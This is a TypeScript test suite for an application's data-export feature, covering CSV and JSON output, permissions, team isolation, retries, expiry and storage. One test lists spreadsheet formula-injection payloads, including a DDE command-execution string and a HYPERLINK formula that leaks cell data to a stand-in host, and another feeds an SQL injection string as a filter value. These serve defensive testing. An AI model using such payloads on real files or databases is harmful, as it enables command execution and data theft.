import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, rmSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { sql } from "drizzle-orm";
import pg from "pg";
import { afterAll, beforeAll, expect, test } from "vitest";
import { systemActor, systemRequest, withCtx } from "../../kernel/ctx.ts";
import type { JobRun } from "../../kernel/module.ts";
import { startS3 } from "../../test/stand-ins/s3.ts";
import { openWorld, type Person, type World } from "../../test/world.ts";
import { openArchive } from "../files/archives.ts";
import { sweepBytesJob } from "../files/jobs.ts";
import { grantCredits, spendCredits } from "../ledger/ledger.ts";
import { flushCalls, noteCall } from "../metering/calls.ts";
import { usageEvents } from "../metering/tables.ts";
import { oldDataExportsDue } from "./events.ts";
import { datasetsOf, removeExportsOfTeam } from "./exports.ts";
import { forgetExports, makeExport } from "./jobs.ts";

let world: World;
beforeAll(async () => {
  world = await openWorld();
});
afterAll(() => world.close());

const inData = (...parts: string[]) => join(world.house.config.dataDir, ...parts);
const filesIn = (...parts: string[]) => (existsSync(inData(...parts)) ? readdirSync(inData(...parts)) : []);
const download = (person: Pick<Person, "fetch">, id: string) => person.fetch(`/api/v1/exports/${id}/file`);

/** Asks, lets it be made, and reads what comes. */
async function exported(person: Person, input: Parameters<typeof ask>[1]) {
  const { id } = await ask(person, input);
  await world.runJobs();
  const answer = await download(person, id);
  expect(answer.status).toBe(200);
  return { id, answer, text: Buffer.from(await answer.arrayBuffer()).toString("utf8") };
}
const ask = (
  person: Person,
  input: { dataset: string; format?: "csv" | "json"; from?: string; to?: string; filter?: Record<string, unknown> },
) => person.api("POST /exports", input);

/** Read by another program than the one that wrote it. */
const rowsOf = (csv: string): Record<string, string>[] =>
  JSON.parse(
    execFileSync(
      "python3",
      [
        "-c",
        "import csv,io,json,sys; t=sys.stdin.buffer.read().decode('utf-8-sig'); print(json.dumps(list(csv.DictReader(io.StringIO(t, newline='')))))",
      ],
      { input: csv, maxBuffer: 1 << 26 },
    ).toString(),
  );

/** A team of its own, so that what others export is not in the way. */
const newcomer = async (name: string) => world.person(name, await world.team(name), "owner");

test("ORC-13.2 a CSV holds every movement of the ledger, in its order; a mail and a notice tell when it is ready", async () => {
  await world.ada.in((ctx) =>
    grantCredits(ctx, { amount: 500, key: "a", kind: "top_up", reason: 'Paid, "thanks" — été' }),
  );
  await world.ada.in((ctx) => spendCredits(ctx, { amount: 20, key: "b", kind: "usage", reason: "First\nsecond line" }));
  const { id, answer, text } = await exported(world.ada, { dataset: "credit_movements" });
  const { data } = await world.ada.api("GET /credits/ledger", { sort: "created_at" });
  expect(rowsOf(text)).toEqual(
    data.map((row) => ({
      id: row.id,
      created_at: row.created_at.replace("T", " ").slice(0, 19),
      kind: row.kind,
      amount: String(row.amount),
      balance_after: String(row.balance_after),
      reason: row.reason,
      subject_kind: "",
      subject_id: "",
    })),
  );
  const day = world.house.now().toISOString().slice(0, 10);
  expect(answer.headers.get("content-disposition")).toBe(`attachment; filename="natak-credit-movements-${day}.csv"`);
  expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(await world.ada.api("GET /exports/:id", { id })).toMatchObject({
    ...{ status: "ready", title: "Credit movements", rows: 2, total: 2, bytes: Buffer.byteLength(text) },
    requested_by: "Ada",
  });
  const { messages } = await world.visitor.api("GET /dev/mailbox", { to: world.ada.email });
  expect(messages[0]!.subject).toBe("Your export is ready: Credit movements");
  expect(messages[0]!.links).toContain(`http://localhost:3000/settings/exports/${id}`);
  expect((await world.ada.api("GET /notifications")).data[0]).toMatchObject({
    title: "Your export is ready: Credit movements",
  });
  const sentences = (await world.ada.api("GET /activity", {})).data.map(({ sentence }) => sentence);
  expect(sentences).toContain("Export of Credit movements asked for");
  expect(sentences).toContain("Export of Credit movements is ready: 2 rows");
});

test("ORC-13.2 a cell that a spreadsheet would compute begins with an apostrophe and stands in quotes; numbers stay", async () => {
  const person = await newcomer("Iris");
  const vectors = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "a;=1+1",
    'a",=1+1',
    "＝1+1",
    "-5.5",
    "+41791234567",
    "a=b",
    "plain",
  ];
  const safe = new Set(vectors.slice(-4).concat("a;=1+1", 'a",=1+1'));
  await person.api("POST /usage/events", {
    events: vectors.map((_, index) => ({ metric_type: "api_call", agent_name: String(index + 1) })),
  } as never);
  // A report trims its names; a cell is guarded whatever stands in it.
  await world.sql("update usage_events set agent_name = ($2::text[])[agent_name::int] where team_id = $1", [
    person.team.id,
    vectors,
  ]);
  const { text } = await exported(person, { dataset: "usage_events" });
  const cells = rowsOf(text).map(({ agent_name }) => agent_name!);
  expect(cells.sort()).toEqual(vectors.map((one) => (safe.has(one) ? one : `'${one}`)).sort());
  for (const line of text.split("\r\n").slice(1, -1)) expect(line).toMatch(/^[0-9a-f-]{36},/);
  expect(text).toContain(`"'=cmd|'/c calc'!A0"`);
  // Where semicolons part the cells, a quoted one stays whole.
  expect(text).toContain(`"a;=1+1"`);
});

test("ORC-13.2 JSON is an array with the values of the wire, a row a line; nothing at all is an empty array", async () => {
  const person = await newcomer("Jona");
  await person.api("POST /usage/events", {
    metric_type: "api_call",
    agent_name: '=1+1 "x" \\ é\u0001',
    metadata: { deep: ["\u0002"] },
    duration_ms: 12,
  } as never);
  const { text, answer } = await exported(person, { dataset: "usage_events", format: "json" });
  const { data } = await person.api("GET /usage/events", {});
  // The file holds calls of our own API too, by their route; what is shown as a link stands in its metadata already.
  expect(JSON.parse(text)).toEqual(data.map(({ links: _, ...row }) => ({ ...row, route: null })));
  expect(text.split("\n")).toHaveLength(4);
  expect(answer.headers.get("content-type")).toBe("application/json");
  const empty = await exported(person, { dataset: "jobs", format: "json" });
  expect(JSON.parse(empty.text)).toEqual([]);
  expect(rowsOf((await exported(person, { dataset: "jobs" })).text)).toEqual([]);
});

test("ORC-13.2 an event without metadata has {} in either file, as the API answers", async () => {
  const person = await newcomer("Kim");
  await person.api("POST /usage/events", { metric_type: "api_call" } as never);
  const { data } = await person.api("GET /usage/events", {});
  expect(data.map(({ metadata }) => metadata)).toEqual([{}]);
  const json = await exported(person, { dataset: "usage_events", format: "json" });
  expect(JSON.parse(json.text)).toMatchObject([{ metadata: {} }]);
  expect(rowsOf((await exported(person, { dataset: "usage_events" })).text)).toMatchObject([{ metadata: "{}" }]);
});

test("ORC-13.2 a period is whole days of the team's time zone, both ends included; filters narrow it", async () => {
  const home = await world.team("Zone");
  await world.sql("update teams set time_zone = 'Pacific/Auckland' where id = $1", [home.id]);
  const person = await world.person("Zoe", home, "owner");
  // Midnight in Auckland is 11:00 UTC of the day before, in November.
  const at = ["2026-11-09T10:59:59Z", "2026-11-09T11:00:00Z", "2026-11-11T10:59:59Z", "2026-11-11T11:00:00Z"];
  await person.api("POST /usage/events", {
    events: at.map((recorded_at, index) => ({ metric_type: "api_call", agent_name: `a${index}`, recorded_at })),
  } as never);
  const period = { dataset: "usage_events", from: "2026-11-10", to: "2026-11-11" };
  const names = (text: string) => rowsOf(text).map(({ agent_name }) => agent_name);
  const whole = await exported(person, period);
  expect(names(whole.text)).toEqual(["a1", "a2"]);
  expect(whole.answer.headers.get("content-disposition")).toContain("natak-usage-events-2026-11-10-2026-11-11.csv");
  expect(names((await exported(person, { ...period, filter: { agent_name: "a2" } })).text)).toEqual(["a2"]);
  const quoted = "a2' or team_id is not null --";
  expect(names((await exported(person, { ...period, filter: { agent_name: quoted } })).text)).toEqual([]);
});

test("ORC-13.2 the calls' features and routes can be counted again from the file of usage events", async () => {
  const person = await newcomer("Gus");
  const at = world.house.now();
  const calls = { "GET /keys": 3, "POST /webhooks": 2 };
  for (const [route, times] of Object.entries(calls))
    for (let time = 0; time < times; time++)
      noteCall(world.house, { team: person.team, at, route, ok: true, durationMs: 5 });
  await flushCalls(world.house);
  await person.api("POST /usage/events", { metric_type: "api_call", count: 4 } as never);
  const counted: Record<string, number> = {};
  for (const { route, count } of rowsOf((await exported(person, { dataset: "usage_events" })).text))
    counted[route!] = (counted[route!] ?? 0) + Number(count);
  expect(counted).toMatchObject({ ...calls, "": 4 });
});

test("ORC-13.2 what cannot be exported is refused at its field", async () => {
  const refused = (input: object) => world.ada.api("POST /exports", input as never).catch((error) => error.errors);
  expect(await refused({ dataset: "users" })).toMatchObject([{ path: "dataset" }]);
  expect(await refused({ dataset: "jobs", filter: { colour: "red" } })).toMatchObject([{ path: "filter" }]);
  expect(await refused({ dataset: "jobs", filter: { status: "odd" } })).toMatchObject([{ path: "filter.status" }]);
  expect(await refused({ dataset: "jobs", from: "2026-03-02", to: "2026-03-01" })).toMatchObject([{ path: "to" }]);
  expect(await refused({ dataset: "jobs", from: "yesterday" })).toMatchObject([{ path: "from" }]);
});

test("ORC-13.2 ORC-07.5 each dataset asks for its own permission, and the list shows what one may read", async () => {
  const names = async (person: Person) => (await person.api("GET /datasets")).data.map(({ name }) => name);
  expect(await names(world.vic)).toEqual(["jobs", "assets", "credit_movements", "usage_events"]);
  expect(await names(world.max)).toEqual(["jobs", "assets", "api_key_uses", "credit_movements", "usage_events"]);
  expect(await names(world.ada)).toContain("activity");
  for (const [person, dataset] of [
    [world.vic, "api_key_uses"],
    [world.max, "activity"],
  ] as const)
    await expect(ask(person, { dataset })).rejects.toMatchObject({ status: 403, code: "forbidden" });
  const { id } = await exported(world.ada, { dataset: "activity" });
  expect((await world.ada.api("GET /exports", {})).data.map((one) => one.id)).toContain(id);
  expect((await world.max.api("GET /exports", {})).data.map((one) => one.id)).not.toContain(id);
  for (const person of [world.max, world.eve])
    for (const key of ["GET /exports/:id", "DELETE /exports/:id"] as const)
      await expect(person.api(key, { id })).rejects.toMatchObject({ status: 404, code: "not_found" });
  expect((await download(world.max, id)).status).toBe(404);
  expect((await download(world.eve, id)).status).toBe(404);
  expect((await download(world.visitor as Person, id)).status).toBe(401);
});

test("ORC-07.5 ORC-13.2 a viewer starts and deletes no export, but takes the file of one that others made", async () => {
  await expect(ask(world.vic, { dataset: "jobs" })).rejects.toMatchObject({ status: 403, code: "forbidden" });
  const { id } = await exported(world.max, { dataset: "jobs" });
  expect((await world.vic.api("GET /exports", {})).data.map((one) => one.id)).toContain(id);
  expect((await download(world.vic, id)).status).toBe(200);
  const demoted = await world.person("Dora", world.ada.team, "member");
  const own = await exported(demoted, { dataset: "jobs" });
  await world.sql("update team_members set role = 'viewer' where user_id = $1", [demoted.id]);
  expect((await demoted.api("GET /exports/:id", { id: own.id })).may_delete).toBe(false);
  await expect(demoted.api("DELETE /exports/:id", { id: own.id })).rejects.toMatchObject({ status: 403 });
});

test("ORC-13.2 ORC-12.4 every dataset holds rows of its own team only, also under row-level security", async () => {
  const [here, there] = [await newcomer("Here"), await newcomer("There")];
  for (const person of [here, there]) {
    await person.api("POST /usage/events", { metric_type: "api_call", agent_name: `of ${person.name}` } as never);
    await person.api("POST /characters", { name: `Model ${person.name}`, trigger_word: person.name });
    await person.in((ctx) => grantCredits(ctx, { amount: 5, key: "x", kind: "grant", reason: `for ${person.name}` }));
  }
  for (const { name } of (await here.api("GET /datasets")).data) {
    const { text } = await exported(here, { dataset: name, format: "json" });
    expect(text, name).not.toContain("There");
    expect(text, name).not.toContain(there.team.id);
    if (["usage_events", "credit_movements", "activity"].includes(name)) expect(text, name).toContain("Here");
  }
});

test("ORC-13.2 three of a team at once, also when they are asked for at once; another team is not held up", async () => {
  const person = await newcomer("Kim");
  const answers = await Promise.allSettled([1, 2, 3, 4, 5].map(() => ask(person, { dataset: "jobs" })));
  expect(answers.filter(({ status }) => status === "fulfilled")).toHaveLength(3);
  await expect(ask(person, { dataset: "jobs" })).rejects.toMatchObject({ status: 429, code: "too_many_requests" });
  await ask(world.eve, { dataset: "jobs" });
  const [first] = (await person.api("GET /exports", {})).data;
  await person.api("DELETE /exports/:id", { id: first!.id });
  await ask(person, { dataset: "jobs" });
  await world.runJobs();
  expect((await person.api("GET /exports", {})).data.map(({ status }) => status)).toEqual(["ready", "ready", "ready"]);
});

test("ORC-13.2 its own asker or a manager deletes an export, with its bytes", async () => {
  const { id } = await exported(world.max, { dataset: "jobs" });
  const before = filesIn("files", world.ada.team.id).length;
  await expect(world.vic.api("DELETE /exports/:id", { id })).rejects.toMatchObject({ status: 403 });
  expect((await world.vic.api("GET /exports/:id", { id })).may_delete).toBe(false);
  await world.ada.api("DELETE /exports/:id", { id });
  await world.runJobs();
  expect(filesIn("files", world.ada.team.id)).toHaveLength(before - 1);
  expect((await download(world.max, id)).status).toBe(404);
  expect((await world.ada.api("GET /activity", { name: "export.deleted" })).data[0]!.sentence).toBe(
    "Export of Jobs deleted",
  );
});

const systemIn = (person: Person) => ({
  actor: systemActor,
  team: person.team,
  product: "natak",
  request: systemRequest(),
});
const run = (person: Person, id: string, how: Partial<JobRun> = {}) =>
  withCtx(world.house, systemIn(person), (ctx) =>
    makeExport(
      ctx,
      { export_id: id },
      { attempt: 1, lastAttempt: false, signal: new AbortController().signal, ...how },
    ),
  );
/** So many uses, without the way over the API. */
const manyUses = (person: Person, count: number, note = "") =>
  world.sql(
    `insert into usage_events (team_id, id, source, event_id, metric, count, agent_name, metadata, day, recorded_at, received_at)
     select $1, gen_random_uuid(), 'test', n::text, 'api_call', n, '=agent ' || n, jsonb_build_object('note', $3::text), '2026-11-01', now(), now() from generate_series(1, $2) n`,
    [person.team.id, count, note],
  );

test("ORC-13.2 killed in the middle it leaves nothing that looks whole; the next run makes all of it, as one file", async () => {
  const person = await newcomer("Lena");
  await manyUses(person, 60_000, "x".repeat(200));
  const { id } = await ask(person, { dataset: "usage_events" });
  const killed = new AbortController();
  const dying = run(person, id, { signal: killed.signal });
  const written = () => filesIn("work").reduce((sum, name) => sum + statSync(inData("work", name)).size, 0);
  while (written() === 0) await new Promise((resolve) => setTimeout(resolve, 1));
  killed.abort(new Error("killed"));
  await expect(dying).rejects.toThrow();
  expect(filesIn("files", person.team.id)).toEqual([]);
  expect(filesIn("work")).toEqual([]);
  expect(await person.api("GET /exports/:id", { id })).toMatchObject({ status: "running", bytes: null });
  expect((await download(person, id)).status).toBe(404);
  await world.runJobs();
  expect(await person.api("GET /exports/:id", { id })).toMatchObject({ status: "ready", rows: 60_000 });
  expect(filesIn("files", person.team.id)).toHaveLength(1);
  const text = await (await download(person, id)).text();
  expect(text.split("\r\n")).toHaveLength(60_002);
});

test("ORC-13.2 an export says on the way how many of its rows are written, in its line and to open pages", async () => {
  const person = await newcomer("Ines");
  await manyUses(person, 20_000, "x".repeat(200));
  await world.sql("update usage_events set recorded_at = recorded_at + count * interval '1 ms' where team_id = $1", [
    person.team.id,
  ]);
  const gate = new pg.Client({ connectionString: world.databaseUrl });
  await gate.connect();
  await gate.query("listen signals");
  await gate.query("select pg_advisory_lock(1302)");
  const told: { rows: number }[] = [];
  gate.on("notification", ({ payload }) => {
    const { name, data } = JSON.parse(payload!);
    if (name === "export.progress") told.push(data);
  });
  // The file takes longer than half a second for its first half, and waits for us before its end.
  const { columns } = datasetsOf(world.house, "natak").find(({ name }) => name === "usage_events")!;
  columns.wait = sql`case ${usageEvents.count} when 10000 then pg_sleep(0.6)::text
    when 19000 then pg_advisory_xact_lock_shared(1302)::text end`;
  try {
    const { id } = await ask(person, { dataset: "usage_events" });
    const making = run(person, id);
    await expect.poll(() => told.at(-1)?.rows ?? 0, { timeout: 20_000 }).toBeGreaterThan(0);
    expect(told[0]).toEqual({ export_id: id, rows: 0 });
    const halfway = await person.api("GET /exports/:id", { id });
    expect(halfway).toMatchObject({ status: "running", total: 20_000 });
    expect(halfway.rows).toBeGreaterThanOrEqual(told[1]!.rows);
    expect(halfway.rows).toBeLessThan(20_000);
    await gate.query("select pg_advisory_unlock(1302)");
    await making;
    expect(await person.api("GET /exports/:id", { id })).toMatchObject({
      status: "ready",
      rows: 20_000,
      total: 20_000,
    });
  } finally {
    delete columns.wait;
    await gate.end();
  }
});

test("ORC-13.2 what a killed process left is removed after a day", async () => {
  mkdirSync(inData("work"), { recursive: true });
  for (const [name, hours] of [
    ["old.csv", 25],
    ["young.csv", 1],
  ] as const) {
    writeFileSync(inData("work", name), "half");
    const at = (world.house.now().getTime() - hours * 3_600_000) / 1_000;
    utimesSync(inData("work", name), at, at);
  }
  await exported(world.ada, { dataset: "jobs" });
  expect(filesIn("work")).toEqual(["young.csv"]);
  rmSync(inData("work", "young.csv"));
});

test("ORC-13.2 of two runs of one export only the later one's file counts, and deleting it ends a run", async () => {
  const person = await newcomer("Mona");
  await manyUses(person, 50_000);
  const { id } = await ask(person, { dataset: "usage_events" });
  await Promise.all([run(person, id), run(person, id)]);
  await world.runJobs();
  expect(await person.api("GET /exports/:id", { id })).toMatchObject({ status: "ready", rows: 50_000 });
  expect(filesIn("files", person.team.id)).toHaveLength(1);
  expect((await person.api("GET /activity", { name: "export.ready" })).data).toHaveLength(1);

  const second = await ask(person, { dataset: "usage_events" });
  const running = run(person, second.id);
  while (filesIn("work").length === 0) await new Promise((resolve) => setTimeout(resolve, 1));
  await person.api("DELETE /exports/:id", { id: second.id });
  await running;
  await world.runJobs();
  expect(filesIn("files", person.team.id)).toHaveLength(1);
  expect(filesIn("work")).toEqual([]);
});

test("ORC-13.2 what fails three times is over, and its asker hears of it", async () => {
  const person = await newcomer("Nils");
  const { id } = await ask(person, { dataset: "jobs" });
  await world.sql("update data_exports set dataset = 'gone' where id = $1", [id]);
  await expect(run(person, id, { attempt: 2 })).rejects.toThrow("no module offers gone");
  await run(person, id, { attempt: 3 });
  expect(await world.sql("select status from data_exports where id = $1", [id])).toEqual([{ status: "failed" }]);
  await world.runJobs();
  const { messages } = await world.visitor.api("GET /dev/mailbox", { to: person.email });
  expect(messages[0]!.subject).toBe("Your export could not be made: gone");
});

test("ORC-13.2 after seven days the file is gone and the history says so; after ninety the line goes", async () => {
  const person = await newcomer("Olga");
  const { id } = await exported(person, { dataset: "jobs" });
  const bytes = () => filesIn("files", person.team.id);
  const sweep = () =>
    withCtx(world.house, systemIn(person), (ctx) => sweepBytesJob(ctx, {}, { signal: new AbortController().signal }));
  const forget = async () => {
    await world.visitor.in((ctx) => ctx.enqueue(oldDataExportsDue, {}));
    await world.runJobs();
  };
  // The sweep of bytes that no row names passes it by.
  world.clock.advance(6 * 86_400_000);
  await sweep();
  await forget();
  expect(bytes()).toHaveLength(1);
  world.clock.advance(86_400_000 + 1);
  // Sessions end too.
  const back = await world.person("Otto", person.team, "viewer");
  expect((await download(back, id)).status).toBe(404);
  await forget();
  expect(bytes()).toEqual([]);
  expect(await back.api("GET /exports/:id", { id })).toMatchObject({ status: "expired" });
  world.clock.advance(84 * 86_400_000);
  await forget();
  expect(await world.sql("select from data_exports where id = $1", [id])).toEqual([]);
});

test("ORC-13.2 ORC-09.4 the files of a team that is purged go, and those that a purged person asked for", async () => {
  const [gone, leaver] = [await newcomer("Sol"), await newcomer("Tim")];
  for (const person of [gone, leaver]) await exported(person, { dataset: "jobs" });
  const system = { ...systemIn(gone), team: null, staff: true };
  await withCtx(world.house, system, async (ctx) => {
    await removeExportsOfTeam(ctx, gone.team.id);
    await forgetExports(ctx, { ...leaver, addresses: [], names: [] });
  });
  await world.runJobs();
  for (const person of [gone, leaver]) expect(filesIn("files", person.team.id)).toEqual([]);
  expect((await leaver.api("GET /exports", {})).data).toEqual([]);
});

test("ORC-13.2 with S3 the file goes into the bucket as a stream, and comes back from there", async () => {
  const s3 = await startS3();
  const other = await openWorld(s3.environment);
  try {
    const { id } = await ask(other.ada, { dataset: "jobs", format: "json" });
    await other.runJobs();
    expect(await (await download(other.ada, id)).json()).toEqual([]);
    expect(existsSync(join(other.house.config.dataDir, "files"))).toBe(false);
    const [stored] = await other.sql<{ key: string }>("select team_id || '/' || run_id as key from data_exports");
    await other.ada.api("DELETE /exports/:id", { id });
    await other.runJobs();
    expect(await openArchive(other.house, stored!.key)).toBe(null);
  } finally {
    await other.close();
    await s3.stop();
  }
});

test("ORC-13.2 an export that lost its job is over after a day and keeps no place", async () => {
  const person = await newcomer("Rosa");
  const { id } = await ask(person, { dataset: "jobs" });
  await world.sql("delete from graphile_worker._private_jobs where payload::text like '%' || $1 || '%'", [id]);
  world.clock.advance(86_400_000);
  await world.visitor.in((ctx) => ctx.enqueue(oldDataExportsDue, {}));
  await world.runJobs();
  expect(await world.sql("select status from data_exports where id = $1", [id])).toEqual([{ status: "failed" }]);
});

test("P12 rows are never all in memory: 60 MB of them pass through 32 MiB", async () => {
  const person = await newcomer("Pia");
  await manyUses(person, 60_000, "x".repeat(1_000));
  const { id } = await ask(person, { dataset: "usage_events" });
  const before = process.memoryUsage.rss();
  let most = before;
  const watch = setInterval(() => {
    most = Math.max(most, process.memoryUsage.rss());
  }, 5);
  await run(person, id).finally(() => clearInterval(watch));
  const { bytes } = await person.api("GET /exports/:id", { id });
  expect(bytes!).toBeGreaterThan(60_000_000);
  expect((most - before) / 1024 / 1024).toBeLessThan(32);
});
